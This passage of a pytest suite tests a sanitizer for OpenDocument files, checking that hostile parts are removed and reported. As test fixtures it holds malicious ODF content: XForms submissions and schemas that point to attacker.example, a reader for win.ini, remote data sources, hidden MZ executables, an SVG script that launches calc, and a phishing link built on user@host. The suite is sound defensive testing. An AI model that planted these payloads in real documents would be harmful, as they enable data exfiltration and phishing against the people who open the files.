    '<rdf:Description rdf:about=""><pkg:hasPart rdf:resource="payload.bin"/></rdf:Description>'
    '<rdf:Description rdf:about=""><x:run>calc.exe</x:run></rdf:Description>'
    '<rdf:Description rdf:about=""><rdf:type rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/pkg#Document"/>'
    "</rdf:Description></rdf:RDF>")


def with_parts(source: Path, target: Path, parts: dict[str, bytes], listed: dict[str, str]) -> Path:
    """``source`` with ``parts`` added and ``listed`` (path -> media type) added to its manifest."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in original.infolist():
            data = original.read(info)
            if info.filename == "META-INF/manifest.xml":
                entries = "".join(f'<manifest:file-entry manifest:full-path="{html.escape(p)}" '
                                  f'manifest:media-type="{t}"/>' for p, t in listed.items())
                data = data.replace(b"</manifest:manifest>", entries.encode() + b"</manifest:manifest>")
            out.writestr(info, data)
        for name, data in parts.items():
            out.writestr(name, data)
    return target


def manifest_paths(package: zipfile.ZipFile) -> set[str]:
    root = fromstring(package.read("META-INF/manifest.xml"))
    ns = "{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}"
    return {e.get(f"{ns}full-path", "") for e in root.iter(f"{ns}file-entry")}


def assert_manifest_lists_exactly_the_parts(package: zipfile.ZipFile) -> None:
    files = {e for e in manifest_paths(package) if not e.endswith("/")}
    assert files == set(package.namelist()) - {"mimetype", "META-INF/manifest.xml"}


def test_parts_of_no_kept_kind_are_dropped_and_reported(tmp_path: Path) -> None:
    """``content.XML`` is not content.xml to LibreOffice (it finds parts by exact name), an unknown
    part, a manifest.rdf under META-INF, a layout cache, a toolbar configuration and a Basic dialog:
    none is a part the rebuild keeps, listed in the manifest or not."""
    source = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    payload = f'<office:document-content {XMLNS}><office:body><office:text><text:p>calc.exe</text:p>' \
              '</office:text></office:body></office:document-content>'
    parts = {"content.XML": payload.encode(), "payload.bin": MZ, "META-INF/manifest.rdf": RDF_PAYLOAD.encode(),
             "layout-cache": MZ, "Configurations2/menubar/menubar.xml": b"<menubar/>",
             "Dialogs/Standard/Dialog1.xml": b"<dialog/>", "Object 1": MZ}
    src = with_parts(source, tmp_path / "parts.odt", parts, {name: "text/xml" for name in parts})
    report = run_engine(src, tmp_path / "out")
    assert report.outcome == "sanitized", report.reason
    removed = {(f.code, f.detail.split(":")[0]) for f in report.findings}
    assert {("part_removed", name) for name in ("content.XML", "payload.bin", "META-INF/manifest.rdf", "layout-cache",
                                                "Configurations2/menubar/menubar.xml")} <= removed
    assert ("macro_removed", "Dialogs/Standard/Dialog1.xml") in removed
    assert ("embedded_object_removed", "Object 1") in removed
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        assert sorted(package.namelist()) == ["META-INF/manifest.xml", "content.xml", "meta.xml", "mimetype"]
        assert_manifest_lists_exactly_the_parts(package)
        assert b"calc.exe" not in package.read("content.xml")


def test_a_part_the_manifest_does_not_list_is_dropped(tmp_path: Path) -> None:
    """LibreOffice refuses a package holding a part its manifest does not list: the rebuild writes
    only listed parts, even of a kind it keeps."""
    source = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    src = with_parts(source, tmp_path / "unlisted.odt", {"settings.xml": b"<x/>", "Pictures/a.png": png_bytes()}, {})
    report = run_engine(src, tmp_path / "out")
    assert {("part_removed", "settings.xml: not listed in the package's manifest"),
            ("part_removed", "Pictures/a.png: not listed in the package's manifest")} <= \
        {(f.code, f.detail) for f in report.findings}
    with zipfile.ZipFile(tmp_path / "out" / report.outputs[0].path) as package:
        assert "settings.xml" not in package.namelist() and "Pictures/a.png" not in package.namelist()


def test_a_picture_holding_an_executable_is_dropped_with_its_reference(tmp_path: Path) -> None:
    body = ('<text:p><draw:frame draw:name="x" svg:width="1cm" svg:height="1cm"><draw:image '
            'xlink:href="Pictures/evil.png" xlink:type="simple"/></draw:frame>画像の段落</text:p>'
            '<text:p><draw:frame draw:name="y" svg:width="1cm" svg:height="1cm"><draw:image '
            'xlink:href="./Pictures/logo.png" xlink:type="simple"/></draw:frame></text:p>')
    source = write_odf(tmp_path / "pictures.odt", body, pictures=True)
    trailing = png_bytes((0, 0, 255)) + b"PK\x03\x04" + MZ  # a ZIP hidden after a real picture
    src = with_parts(source, tmp_path / "evil.odt", {"Pictures/evil.png": MZ, "Thumbnails/thumbnail.png": trailing},
                     {"Pictures/evil.png": "image/png", "Thumbnails/thumbnail.png": "image/png"})
    report = run_engine(src, tmp_path / "out")
    findings = {(f.code, f.detail) for f in report.findings}
    assert ("media_removed", "Pictures/evil.png: the bytes are not a picture (PNG, JPEG, GIF, BMP, TIFF, EMF, WMF)") \
        in findings
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        assert "Pictures/evil.png" not in package.namelist()
        assert_manifest_lists_exactly_the_parts(package)
        content = package.read("content.xml")
        thumbnail = package.read("Thumbnails/thumbnail.png")
        with Image.open(io.BytesIO(package.read("Pictures/logo.png"))) as logo:
            assert logo.size == (12, 8)
    assert b"evil.png" not in content and b"./Pictures/logo.png" in content
    assert "画像の段落" in all_text(fromstring(content))
    assert b"PK\x03\x04" not in thumbnail and b"This program" not in thumbnail
    with Image.open(io.BytesIO(thumbnail)) as image:
        assert image.format == "PNG" and image.getpixel((0, 0)) == (0, 0, 255)


def svm(actions: list[tuple[int, bytes]]) -> bytes:
    """A StarView metafile as LibreOffice writes one: header, then (type, version, length, data) actions."""
    header = struct.pack("<I", 0) + struct.pack("<HI", 1, 27) + bytes(27) + struct.pack("<ii", 100, 100)
    header += struct.pack("<I", len(actions))
    body = b"".join(struct.pack("<HHI", kind, 1, len(data)) + data for kind, data in actions)
    return b"VCLMTF" + struct.pack("<HI", 1, len(header)) + header + body


def test_object_previews_stay_only_as_well_formed_metafiles(tmp_path: Path) -> None:
    good, bad = svm([(111, bytes(8)), (512, b"XGRAD_SEQ_BEGIN")]), svm([(111, bytes(8))]) + MZ
    body = "".join(f'<text:p><draw:frame draw:name="o{n}" svg:width="1cm" svg:height="1cm"><draw:image '
                   f'xlink:href="./ObjectReplacements/Object {n}" xlink:type="simple"/></draw:frame></text:p>'
                   for n in (1, 2))
    source = write_odf(tmp_path / "svm.odt", body)
    src = with_parts(source, tmp_path / "previews.odt",
                     {"ObjectReplacements/Object 1": good, "ObjectReplacements/Object 2": bad},
                     {"ObjectReplacements/Object 1": "", "ObjectReplacements/Object 2": ""})
    report = run_engine(src, tmp_path / "out")
    # SVMs are written anew from their actions (tests/converters/formats/test_metafile_svm.py): the
    # comment goes, the bytes after the last action go, the polygon set stays in both
    assert {("metafile_records_removed", "ObjectReplacements/Object 1: comments x1"),
            ("image_trailing_data_removed", "ObjectReplacements/Object 2: 107 bytes after the metafile's last "
             "action")} <= {(f.code, f.detail) for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        kept = svm([(111, b"\x00\x00")])
        assert package.read("ObjectReplacements/Object 1") == package.read("ObjectReplacements/Object 2") == kept
        assert_manifest_lists_exactly_the_parts(package)


def test_rdf_metadata_keeps_only_the_package_statements(tmp_path: Path) -> None:
    source = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    src = with_parts(source, tmp_path / "rdf.odt", {"manifest.rdf": RDF_PAYLOAD.encode()},
                     {"manifest.rdf": "application/rdf+xml"})
    report = run_engine(src, tmp_path / "out")
    assert report.outcome == "sanitized"
    assert {f.detail for f in report.findings if f.code == "unknown_markup_removed"} == {
        "manifest.rdf: statement hasPart of http://docs.oasis-open.org/ns/office/1.2/meta/pkg#",
        "manifest.rdf: statement run of urn:x-evil"}
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        rdf = package.read("manifest.rdf")
        assert_manifest_lists_exactly_the_parts(package)
    assert b"calc.exe" not in rdf and b"payload.bin" not in rdf and b"urn:x-evil" not in rdf
    resources = sorted(e.get("{http://www.w3.org/1999/02/22-rdf-syntax-ns#}resource", "")
                       for e in fromstring(rdf).iter() if len(e) == 0)
    assert resources == ["content.xml", "http://docs.oasis-open.org/ns/office/1.2/meta/odf#ContentFile",
                         "http://docs.oasis-open.org/ns/office/1.2/meta/pkg#Document"]


def test_a_package_without_a_manifest_gets_one_listing_its_parts(tmp_path: Path) -> None:
    source = write_odf(tmp_path / "plain.odt", "<text:p>本文</text:p>")
    target = tmp_path / "bare.odt"
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as out:
        for info in original.infolist():
            if info.filename != "META-INF/manifest.xml":
                out.writestr(info, original.read(info))
    report = run_engine(target, tmp_path / "out")
    output = tmp_path / "out" / report.outputs[0].path
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
    with zipfile.ZipFile(output) as package:
        assert_manifest_lists_exactly_the_parts(package)
        assert "/" in manifest_paths(package)


@pytest.mark.parametrize(("href", "kept"), [(".", True), ("..", True), ("../other.ods", False),
                                            ("file:///C:/data.ods", False), ("http://example.com/d.ods", False)])
def test_a_chart_keeps_its_own_data_source_and_nothing_else(href: str, kept: bool) -> None:
    """LibreOffice writes chart:chart xlink:href="." (or "..": the document the chart is embedded
    in); cutting it made every Calc chart lose its cells. Any other target is still removed, and
    the inspector reads it the same way (on its own)."""
    from lxml import etree

    from converters.formats.odf_scrub import scrub_xml
    from converters.inspect.odf import odf_xml_problems

    chart = ("urn:oasis:names:tc:opendocument:xmlns:chart:1.0", "http://www.w3.org/1999/xlink")
    content = (f'<office:document-content {XMLNS} xmlns:chart="{chart[0]}" '
               f'office:version="1.3"><office:body><office:chart><chart:chart xlink:href="{html.escape(href)}" '
               'chart:class="chart:bar"/></office:chart></office:body></office:document-content>').encode()
    root = etree.fromstring(content)
    findings: dict[tuple[str, str], None] = {}
    scrub_xml(root, findings, "Object 1/content.xml")
    written = root.find(f".//{{{chart[0]}}}chart")
    assert (written is not None and written.get(f"{{{chart[1]}}}href") == href) is kept
    assert bool(findings) is not kept
    problems = odf_xml_problems("Object 1/content.xml", io.BytesIO(content))
    assert (not [p for p in problems if "link" in p or "chart data" in p]) is kept


def test_a_stream_whose_root_is_not_its_opendocument_element_blocks_the_file(tmp_path: Path) -> None:
    """``Object 1/content.xml`` holding ``<a/>``: the element allowlist judges what is under a
    root, the root is judged by the stream it stands for (found by this session's final campaign)."""
    source = Path(__file__).resolve().parents[2] / "fuzz" / "regressions" / "1a1aa70aca2c-odf.bin"
    report = run_engine(source, tmp_path, name="文書.odt")
    assert (report.outcome, report.reason_code) == ("blocked", "corrupt_file")
    assert "Object 1/content.xml is not OpenDocument markup" in (report.reason or "")


XFORMS = 'xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:xsd="http://www.w3.org/2001/XMLSchema"'
# what LibreOffice loads with a document besides xlink:href (or with an xlink:href the link
# allowlist used to keep): each -> a needle that must not be in the output
LOADED_WITH_THE_DOCUMENT = {
    "xforms_instance": ("odt", f'<office:forms><xforms:model {XFORMS} xforms:id="m" schema="http://attacker.example/s.xsd">'
                               '<xforms:instance src="file:///C:/Windows/win.ini"/>'
                               '<xforms:submission id="s" action="http://attacker.example/steal" method="put"/>'
                               '<xsd:schema><xsd:import schemaLocation="http://attacker.example/t.xsd"/></xsd:schema>'
                               '</xforms:model></office:forms><text:p>本文</text:p>', "attacker.example"),
    "win_ini": ("odt", f'<office:forms><xforms:model {XFORMS}><xforms:instance src="file:///C:/Windows/win.ini"/>'
                       "</xforms:model></office:forms><text:p>本文</text:p>", "win.ini"),
    "form_datasource": ("odt", '<office:forms><form:form form:name="f" form:datasource="file:///\\\\attacker.example'
                               '\\share\\db.odb" form:command="SELECT 1"/></office:forms><text:p>本文</text:p>',
                        "attacker.example"),
    "database_field": ("odt", '<text:p><text:database-display text:table-name="t" text:column-name="c" '
                              'text:database-name="sdbc:mysql:jdbc:attacker.example:3306/db">値</text:database-display>'
                              '<text:database-display text:table-name="t" text:column-name="c" '
                              'text:database-name="x"><form:connection-resource xlink:href="https://attacker.example/'
                              'a.odb"/>値</text:database-display>本文</text:p>', "attacker.example"),
    "image_control": ("odt", '<office:forms><form:form form:name="f"><form:image-frame form:id="c1" form:name="i" '
                             'form:image-data="https://attacker.example/track.png"/><form:button form:id="c2" '
                             'form:name="b" form:image-data="file://attacker.example/s/a.png"/></form:form>'
                             "</office:forms><text:p>本文</text:p>", "attacker.example"),
    "picture_in_xml": ("odt", '<text:p><draw:frame draw:name="a" svg:width="1cm" svg:height="1cm"><draw:image>'
                              "<office:binary-data>PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+"
                              "Y2FsYygpPC9zY3JpcHQ+PC9zdmc+</office:binary-data></draw:image></draw:frame>本文</text:p>",
                       "PHN2Zy"),
    "slide_sound": ("odp", '<draw:page draw:name="p"><anim:par xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:'
                           'animation:1.0" presentation:node-type="timing-root"><anim:audio xlink:href="https://'
                           'attacker.example/a.wav"/></anim:par><draw:frame draw:name="t" svg:width="1cm" '
                           'svg:height="1cm"><draw:text-box><text:p>本文</text:p></draw:text-box></draw:frame>'
                           "</draw:page>", "attacker.example"),
}


@pytest.mark.parametrize("case", sorted(LOADED_WITH_THE_DOCUMENT))
def test_what_the_document_loads_from_elsewhere_is_removed_and_named(tmp_path: Path, case: str) -> None:
    """XForms instances, schemas and submissions, form and field data sources, image controls'
    pictures, picture bytes inside the XML and slide sounds: each was kept, and the inspector let
    the output through."""
    kind, body, needle = LOADED_WITH_THE_DOCUMENT[case]
    source = write_odf(tmp_path / f"{case}.{kind}", body)
    assert [p for p in check_odf(source) if "styles.xml" not in p]  # the inspector reads the original by itself
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized"
    assert {"external_link_removed", "data_connection_removed", "media_removed"} & {f.code for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    with zipfile.ZipFile(output) as package:
        content = package.read("content.xml").decode("utf-8")
    assert needle not in content and "本文" in content
    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean


def test_a_registered_data_source_and_an_inline_form_model_stay(tmp_path: Path) -> None:
    body = (f'<office:forms><xforms:model {XFORMS} xforms:id="m"><xforms:instance xforms:id="i"/>'
            '<xforms:bind id="b" nodeset="/data/a" required="true()"/><xsd:schema><xsd:simpleType name="t">'
            '<xsd:restriction base="xsd:string"><xsd:maxLength value="10"/></xsd:restriction></xsd:simpleType>'
            '</xsd:schema></xforms:model><form:form form:name="f" form:datasource="住所録" form:command="名簿"/>'
            "</office:forms><text:p>本文</text:p>")
    report = run_engine(write_odf(tmp_path / "名簿.odt", body), tmp_path / "out")
    output = tmp_path / "out" / report.outputs[0].path
    with zipfile.ZipFile(output) as package:
        content = package.read("content.xml").decode("utf-8")
    assert 'form:datasource="住所録"' in content and "xforms:bind" in content and "xsd:maxLength" in content
    assert not {"external_link_removed", "data_connection_removed"} & {f.code for f in report.findings}
    assert check_odf(output) == []


def test_a_web_link_naming_a_user_before_its_host_becomes_its_text(tmp_path: Path) -> None:
    source = write_odf(tmp_path / "phish.odt", '<text:p>こちら <text:a xlink:type="simple" '
                       'xlink:href="https://www.city.example.lg.jp@attacker.example/login">市のサイト</text:a></text:p>')
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized" and "external_link_removed" in {f.code for f in report.findings}
    content, _ = parts_of(tmp_path / "out" / report.outputs[0].path)
    assert hrefs(content) == [] and "こちら 市のサイト" in all_text(content)
